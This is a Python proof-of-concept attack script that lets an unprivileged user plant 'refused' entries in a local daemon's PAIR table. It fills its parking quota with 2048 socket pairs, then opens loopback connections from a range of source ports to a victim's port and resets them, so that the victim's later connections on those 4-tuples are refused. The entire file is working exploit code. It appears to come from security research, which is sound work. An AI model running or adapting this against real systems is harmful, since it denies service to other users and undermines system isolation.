#!/usr/bin/python3
"""uid nobody: plant 'refused' PAIR entries for 4-tuples a victim's future connection will
have. 1) fill this client's MAX_PARKED (2048) with PAIRs of its own sockets (park 10 s);
2) for each source port q: connect from 127.0.0.1:q to the victim's server port, PAIR (refused
at once, and remembered by 4-tuple for 10 s), close with RST.
usage: attack_refmirror.py SOCK VICTIM_PORT OWN_PORT Q0 NQ [HOLD]"""
import sys, os, socket, time, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
path, vport, oport, q0, nq = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
hold = float(sys.argv[6]) if len(sys.argv) > 6 else 5
ctl = dconnect(path)
lst = socket.socket(); lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
lst.bind(('127.0.0.1', oport)); lst.listen(512)
pl = struct.pack('<BBHIQ', 0, 0, 0, 10000, 0)
keep = []
t0 = time.time()
for i in range(2048):
    a = socket.create_connection(('127.0.0.1', oport)); b, _ = lst.accept()
    send_fds(ctl, rec(OP_PAIR, pl, seq=10000 + i), [a.fileno()])
    a.close(); keep.append(b)
print('parked 2048 in %.1fs' % (time.time() - t0), flush=True)
ctl.settimeout(0.05)
try:
    while True:
        ctl.recv(100)  # drain any early replies
except Exception:
    pass
st = {}
for q in range(q0, q0 + nq):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(('127.0.0.1', q)); s.connect(('127.0.0.1', vport))
    except OSError as e:
        st['connect:' + e.strerror] = st.get('connect:' + e.strerror, 0) + 1; s.close(); continue
    send_fds(ctl, rec(OP_PAIR, pl, seq=q), [s.fileno()])
    r = recv_reply(ctl, 1.0)
    k = str(r[1][1]) if r[1] else r[0]
    st[k] = st.get(k, 0) + 1
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    s.close()
print('planted ports %d..%d in %.1fs, PAIR statuses %s' % (q0, q0 + nq - 1, time.time() - t0, st), flush=True)
time.sleep(hold)
